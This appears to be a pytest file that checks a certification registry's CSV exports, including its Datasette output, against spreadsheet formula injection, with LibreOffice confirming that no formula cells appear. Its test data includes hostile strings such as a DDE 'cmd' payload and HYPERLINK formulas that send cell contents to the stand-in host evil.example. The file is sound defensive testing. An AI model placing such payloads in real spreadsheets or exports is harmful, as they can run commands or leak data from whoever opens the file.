"""CSV for spreadsheets: no cell that a spreadsheet would run as a formula (issue 10).

A registry is built through ``Registry`` (so every value passed validation,
as an operator's would) with formula-injection text in every text column a
person can set: body, standard, enterprise and product names, models,
categories, descriptions, scopes, event reasons and notices, notice titles
and texts. It is published with ``publish.build``; then

1. the site's ``downloads/*.csv`` are read cell by cell against the public
   database;
2. Datasette's ``.csvbom`` and ``.csv`` (tables, arbitrary SQL, streamed) are
   read against its ``.json``, which must keep the true values, as must the
   SQLite files and ``api/``;
3. the downloads (and Datasette's CSV) are opened by LibreOffice Calc
   headless (Debian ``libreoffice-calc``, converted to xlsx) and read back
   with openpyxl: no formula cells, and each text shown as written.

Every CSV cell must obey OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection)
— it does not begin with ``=``, ``+``, ``-``, ``@``, tab, CR or LF, except a
plain negative number — and give the true value back when one leading ``'``
is removed. :data:`CELLS` and :data:`MULTILINE_CELLS` spell out the expected
cell of each hostile text (docs/publishing.md, "CSV for spreadsheets").
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import sqlite3
import urllib.parse
from pathlib import Path

import httpx
import openpyxl
import pytest
from builders import GENERAL, GROUP, INIT_DATE, make_uscc
from helpers import datasette_for, run_async, running_datasette, soffice_to_xlsx

import publish
from registry.core import spreadsheet
from registry.publish import downloads, export

# True text -> the cell a spreadsheet must be given.
CELLS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")': '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    # OWASP's two examples: a quote and a separator inside the value.
    '=1+2";=1+2': "'=1+2\";=1+2",
    "=1+2'\" ;,=1+2": "'=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+86 512 6512 0000": "'+86 512 6512 0000",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "-": "'-",                       # a placeholder is text: quoted like the rest
    "'=1+1": "''=1+1",               # a leading quote is quoted, so one can always be removed
    "-40": "-40",                    # a plain negative number: a number to a spreadsheet, never run
    "-1.5e3": "-1.5e3",
    "＝1+1": "＝1+1",                 # full-width: text to LibreOffice (checked in the xlsx below)
    "＠SUM(1,2)": "＠SUM(1,2)",
    "＋1+1": "＋1+1",
    "－1+1": "－1+1",
    "苏州,=1+1": "苏州,=1+1",           # one quoted cell: the '=' never begins a cell
    "苏州精密机械有限公司": "苏州精密机械有限公司",
}
# Texts with line feeds, for the fields that may hold them (scope, description,
# reasons, notices).
MULTILINE_CELLS = {
    "=1+1\n第二行": "'=1+1\n第二行",
    '第一行\n=HYPERLINK("http://evil.example/","点击")': '第一行\n=HYPERLINK("http://evil.example/","点击")',
    "检测报告\n\n@SUM(1,1)": "检测报告\n\n@SUM(1,1)",
}
EXPECTED = CELLS | MULTILINE_CELLS
SINGLE = list(CELLS)
MULTI = list(MULTILINE_CELLS)

# What no CSV cell may begin with, save a plain negative number (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NEGATIVE_NUMBER = re.compile(r"-[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?")

# Columns of the downloads that carry the hostile texts.
HOSTILE_COLUMNS = {
    "certificates.csv": ("body_name_zh", "product_name_zh", "product_name_en",
                         "enterprise_name_zh", "enterprise_name_en", "scope"),
    "events.csv": ("reason", "notice"),
    "enterprises.csv": ("name_zh", "name_en"),
    "products.csv": ("name_zh", "name_en", "category", "description"),
    "notices.csv": ("title_zh", "title_en", "text_zh", "text_en"),
}
# Datasette tables read through .csv/.csvbom and .json.
TABLES = ("certificates", "events", "enterprises", "products", "notices", "bodies", "standards")
HOSTILE_STANDARD = "T/SZS 099-2024"


def _s(i):
    return SINGLE[i % len(SINGLE)]


def _m(i):
    return MULTI[i % len(MULTI)]


@pytest.fixture(scope="module")
def hostile(make_registry):
    """The hostile registry, published: ``{"out", "db", "site", "data"}``."""
    built = make_registry()  # bodies CQC and TUVSUD, the two standards, no products
    with built.open() as reg:
        reg.add_body({"code": "EVIL", "name_zh": _s(0), "name_en": _s(1),
                      "approval_no": "CNCA-R-2002-EVIL", "joined": INIT_DATE})
        reg.endorse_key(reg.generate_key("body", body="EVIL"), date=INIT_DATE)
        reg.add_standard({"code": HOSTILE_STANDARD, "title_zh": _s(2), "title_en": _s(3),
                          "kind": "group", "issuer": _s(4)})
        cert_nos = []
        for i in range(len(SINGLE)):
            uscc = make_uscc(500 + i)
            reg.add_enterprise({"uscc": uscc, "name_zh": _s(i), "name_en": _s(i + 1),
                                "district": "吴中区", "industry": "C3562"})
            product = reg.add_product({"enterprise": uscc, "name_zh": _s(i + 2), "name_en": _s(i + 3),
                                       "models": [_s(i + 4), "SZ-100"], "category": _s(i + 5),
                                       "description": _m(i) if i % 2 else _s(i + 6)})
            cert_nos.append(reg.issue(
                product=product, body="EVIL", standards=[GENERAL, GROUP, HOSTILE_STANDARD],
                scope=_m(i) if i % 2 == 0 else _s(i + 7), issued="2022-03-01",
                expires="2027-02-28", evaluation={"innovation": 88, "quality": 91, "service": 85,
                                                  "reputation": 90, "recognition": 86}))
        for i, cert_no in enumerate(cert_nos):
            if i % 3 == 0:
                reg.suspend(cert_no, _s(i), date="2024-05-01", notice=_m(i))
            elif i % 3 == 1:
                reg.revoke(cert_no, _m(i), date="2024-05-02", notice=_s(i))
            else:
                reg.withdraw(cert_no, _s(i + 1), date="2024-05-03")
        kinds = ("notice", "counterfeit_alert", "supervision")
        for i in range(len(SINGLE)):
            reg.publish_notice(kinds[i % 3], _s(i), _m(i), title_en=_s(i + 1),
                               text_en=_s(i + 2), cert_no=cert_nos[i], date="2025-01-10")
    out = built.base / "output"
    publish.build(built.db, out, keys_dir=built.keys, passphrase=built.passphrase,
                  site_url="http://127.0.0.1:8000")
    return {"out": out, "db": built.db, "site": out / "site", "data": out / "data"}


# ------------------------------------------------------------------ helpers

def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def true_text(value):
    """What a CSV writer makes of a true value, before any quote is added."""
    return "" if value is None else str(value)


def check_cells(where, header, true_rows, cells):
    """Every cell obeys the rule against its true value; hostile texts give the
    cells of :data:`EXPECTED`. Returns the number of cells that were quoted."""
    assert len(cells) == len(true_rows) + 1, f"{where}: observed {len(cells) - 1} rows, expected {len(true_rows)}"
    assert cells[0] == header, f"{where}: header {cells[0]}"
    quoted = 0
    for n, (row, true_row) in enumerate(zip(cells[1:], true_rows, strict=True), start=2):
        assert len(row) == len(true_row), f"{where} row {n}: {row}"
        for column, cell, true in zip(header, row, true_row, strict=True):
            at = f"{where} row {n} column {column}: cell {cell!r} for true value {true!r}"
            assert not cell.startswith(TRIGGERS) or NEGATIVE_NUMBER.fullmatch(cell), at
            unquoted = cell[1:] if cell.startswith("'") else cell
            assert unquoted == true_text(true), at
            if isinstance(true, str) and true in EXPECTED:
                assert cell == EXPECTED[true], at
            quoted += cell != true_text(true)
    return quoted


def get(ds, path):
    async def go():
        return await ds.client.get(path)
    response = run_async(go())
    assert response.status_code == 200, (path, response.text[:300])
    return response


def json_rows(ds, path):
    """``path`` (no extension) as .json: columns and rows of true values."""
    data = get(ds, path + ".json?_size=max&_shape=arrays").json()
    return data["columns"], data["rows"]


# --------------------------------------------------- 1. downloads/*.csv

def test_downloads_have_no_formula_cells(hostile):
    public = sqlite3.connect(hostile["data"] / "registry.db")
    for name in downloads.CSV_DOWNLOADS:
        raw = (hostile["site"] / "downloads" / name).read_bytes()
        assert raw.startswith(export.BOM.encode()), name
        cur = public.execute(downloads.csv_sql(name))
        header = [d[0] for d in cur.description]
        true_rows = cur.fetchall()
        cells = read_csv(raw.decode("utf-8-sig"))
        quoted = check_cells(name, header, true_rows, cells)
        assert quoted, f"{name}: no hostile cell at all, the registry did not reach it"
        for column in HOSTILE_COLUMNS[name]:
            values = {row[header.index(column)] for row in true_rows}
            assert any(EXPECTED.get(v, v) != v for v in values if isinstance(v, str)), (name, column)


def test_true_values_stay_in_sqlite_and_json(hostile):
    """Only CSV is changed: the databases and the signed JSON keep what was typed."""
    for db in (hostile["data"] / "registry.db", hostile["site"] / "downloads" / "registry.db", hostile["db"]):
        conn = sqlite3.connect(db)
        names = {r[0] for r in conn.execute("select name_zh from enterprises")}
        scopes = {r[0] for r in conn.execute("select scope from certificates")}
        reasons = {r[0] for r in conn.execute("select reason from events")}
        conn.close()
        assert set(SINGLE) <= names, db
        assert set(MULTI) <= scopes, db
        assert set(SINGLE) & reasons and set(MULTI) & reasons, db
    scopes = set()
    for path in (hostile["site"] / "api" / "certificates").glob("*.json"):
        revisions = json.loads(path.read_text(encoding="utf-8"))["revisions"]
        scopes |= {json.loads(r["payload"])["scope"] for r in revisions}
    assert set(MULTI) <= scopes


# ------------------------------------------------------------- 2. Datasette

@pytest.mark.parametrize("table", TABLES)
def test_datasette_csvbom_and_csv_are_safe_and_json_true(hostile, table):
    ds = datasette_for(hostile["data"])
    columns, true_rows = json_rows(ds, f"/registry/{table}")
    assert true_rows
    # .json keeps the true values: what was typed, no quote added.
    typed = {v for row in true_rows for v in row if isinstance(v, str)}
    assert typed & {v for v in EXPECTED if EXPECTED[v] != v}, table
    for suffix in (".csvbom?_size=max", ".csv?_size=max", ".csv?_size=max&_dl=1", ".csv?_stream=on"):
        response = get(ds, f"/registry/{table}{suffix}")
        body = response.content
        if suffix.startswith(".csvbom"):
            assert body.startswith(b"\xef\xbb\xbf") and "attachment" in response.headers["content-disposition"]
        cells = read_csv(body.decode("utf-8-sig"))
        quoted = check_cells(f"{table}{suffix}", columns, true_rows, cells)
        assert quoted, f"{table}{suffix}: nothing to quote, the hostile text did not reach it"


def test_datasette_sql_results_and_column_names_are_safe(hostile):
    """Anyone can send a link to a query: its values and its column names are cells too."""
    ds = datasette_for(hostile["data"])
    sql = ("select '=HYPERLINK(\"http://evil.example/\",\"点击\")' as \"=1+1\", -5 as n, "
           "'-5' as t, 2.5 as x, null as z, name_zh from enterprises order by uscc")
    query = urllib.parse.urlencode({"sql": sql})
    data = get(ds, "/registry.json?_shape=arrays&" + query).json()
    assert data["columns"][0] == "=1+1" and data["rows"][0][:5] == [
        '=HYPERLINK("http://evil.example/","点击")', -5, "-5", 2.5, None]
    for path in ("/registry.csv?", "/registry.csvbom?", "/registry.csv?_stream=on&"):
        cells = read_csv(get(ds, path + query).content.decode("utf-8-sig"))
        assert cells[0][0] == "'=1+1"
        assert cells[1][:5] == ['\'=HYPERLINK("http://evil.example/","点击")', "-5", "-5", "2.5", ""]
        check_cells(path, ["'=1+1", *data["columns"][1:]], data["rows"], cells)


@pytest.fixture(scope="module")
def datasette_http(hostile):
    """A real ``datasette serve`` of the hostile build on 127.0.0.1, as ``publish.py serve`` runs it."""
    with running_datasette(hostile["data"]) as base:
        yield base


def as_datasette_csv(data):
    """A Datasette ``.json?_shape=arrays`` answer laid out as its CSV is: an
    expanded foreign key (``_labels=on``) is two columns, ``<col>`` and ``<col>_label``."""
    expanded = set(data.get("expanded_columns") or ())
    header = [h for c in data["columns"] for h in ((c, c + "_label") if c in expanded else (c,))]
    rows = []
    for row in data["rows"]:  # with _labels=on Datasette answers objects whatever the _shape
        cells = [row[c] for c in data["columns"]] if isinstance(row, dict) else row
        rows.append([v for c, cell in zip(data["columns"], cells, strict=True)
                     for v in (((cell or {}).get("value"), (cell or {}).get("label"))
                               if c in expanded else (cell,))])
    return header, rows


def test_the_csv_links_a_person_clicks_are_safe(datasette_http):
    """The table page's "CSV" and "csvbom" links and its "Export CSV" form (download
    file, expand labels, stream all rows), fetched from a real server as a browser would."""
    base = datasette_http
    for table in ("products", "notices"):  # a hostile text in every row, so on every page
        page = httpx.get(f"{base}/registry/{table}?_size=5").text
        links = {text: html.unescape(href)
                 for href, text in re.findall(r'<a href="([^"]+)">(CSV|csvbom)</a>', page)}
        assert set(links) == {"CSV", "csvbom"}, links
        form = re.search(r'<form action="([^"]+\.csv)" method="get">(.*?)</form>', page, re.S)
        assert form, "the advanced export form"
        fields = [("_dl", "on"), ("_stream", "on")]
        if 'name="_labels" checked' in form.group(2):
            fields.append(("_labels", "on"))
        fields += re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', form.group(2))
        urls = {"CSV": links["CSV"], "csvbom": links["csvbom"],
                "Export CSV": html.unescape(form.group(1)) + "?" + urllib.parse.urlencode(fields)}
        for what, link in urls.items():
            url = urllib.parse.urljoin(base + "/", link)
            response = httpx.get(url)
            assert response.status_code == 200, (what, url)
            # The same rows with their true values: the same URL as .json.
            parts = urllib.parse.urlsplit(url)
            query = [(k, v) for k, v in urllib.parse.parse_qsl(parts.query) if k not in ("_dl", "_stream")]
            json_url = parts._replace(path=re.sub(r"\.csv(bom)?$", ".json", parts.path),
                                      query=urllib.parse.urlencode([*query, ("_shape", "arrays"),
                                                                    ("_size", "max")])).geturl()
            header, true_rows = as_datasette_csv(httpx.get(json_url).json())
            cells = read_csv(response.content.decode("utf-8-sig"))
            assert check_cells(f"{table} {what} {url}", header, true_rows, cells), (what, url)


def test_data_dictionary_says_where_the_true_values_are(hostile):
    """Datasette shows the published metadata.yml: the rule and where the true values are."""
    meta = get(datasette_for(hostile["data"]), "/-/metadata.json").json()
    for text in (meta["description"], meta["databases"]["registry"]["description"]):
        for words in ("单引号", "原值", "single quote", "true value", "JSON", "SQLite"):
            assert words in text, words


# ------------------------------------------------- the rule over a stream

@pytest.mark.parametrize("piece", [1, 2, 3, 7, 64])
def test_stream_gives_the_same_bytes_whatever_the_pieces(piece):
    rows = [["=h", "列"], *[[v, i, -i, None, "x\r\ny", '"=q"'] for i, v in enumerate(EXPECTED)]]
    buf = io.StringIO()
    csv.writer(buf).writerows([["" if v is None else v for v in row] for row in rows])
    data = buf.getvalue().encode("utf-8")
    whole = spreadsheet.safe_csv(data)
    stream = spreadsheet.SafeCsvStream()
    out = b"".join(stream.feed(data[i:i + piece]) for i in range(0, len(data), piece)) + stream.close()
    assert out == whole
    cells = read_csv(out.decode("utf-8"))
    assert cells[0] == ["'=h", "列"]
    assert [row[0] for row in cells[1:]] == list(EXPECTED.values())
    assert all(row[1:] == [str(i), str(-i), "", "x\r\ny", '"=q"'] for i, row in enumerate(cells[1:]))


def test_stream_keeps_what_needs_no_quote_byte_for_byte():
    data = '苏州,"a,b",-3,"x""y"\r\n"第二\n行",,1.5\r\n'.encode() + b"\xff\xfe,\xe4\xb8"
    stream = spreadsheet.SafeCsvStream()
    assert stream.feed(data) + stream.close() == data
    stream = spreadsheet.SafeCsvStream()
    assert stream.feed(b"\xff=1,ok\r\n=2,\xe4") + stream.close() == b"\xff=1,ok\r\n'=2,\xe4"


# ------------------------------------------------- 3. LibreOffice Calc

def test_libreoffice_opens_every_csv_without_a_formula(hostile, tmp_path):
    ds = datasette_for(hostile["data"])
    csv_dir = tmp_path / "csv"
    csv_dir.mkdir()
    sources = {}
    for name in downloads.CSV_DOWNLOADS:
        sources[name] = shutil.copy(hostile["site"] / "downloads" / name, csv_dir / name)
    for table, suffix in (("products", ".csvbom?_size=max"), ("certificates", ".csv?_stream=on")):
        path = csv_dir / f"datasette-{table}.csv"
        path.write_bytes(get(ds, f"/registry/{table}{suffix}").content)
        sources[path.name] = path
    hostile_seen = set()
    for source, xlsx in zip(sources.values(), soffice_to_xlsx(list(sources.values()), tmp_path), strict=True):
        cells = read_csv(Path(source).read_bytes().decode("utf-8-sig"))
        sheet = openpyxl.load_workbook(xlsx).active
        rows = list(sheet.iter_rows(max_col=len(cells[0])))
        assert len(rows) == len(cells), (xlsx.name, len(rows), len(cells))
        for row, written in zip(rows, cells, strict=True):
            for cell, text in zip(row, written, strict=True):
                at = f"{xlsx.name} {cell.coordinate}: {cell.data_type} {cell.value!r}, CSV {text!r}"
                assert cell.data_type != "f", at
                if text.startswith("'"):
                    # Shown as written: the true value with the neutralising quote.
                    assert cell.data_type == "s" and cell.value == text, at
                    hostile_seen.add(text)
                elif cell.data_type == "s":
                    assert cell.value == text, at
                    if text in EXPECTED.values():
                        hostile_seen.add(text)
                else:
                    assert (cell.value is None) == (text == ""), at
    # Every quoted hostile text and every look-alike left alone came through LibreOffice.
    assert {c for c in EXPECTED.values() if c not in {"-40", "-1.5e3"}} <= hostile_seen
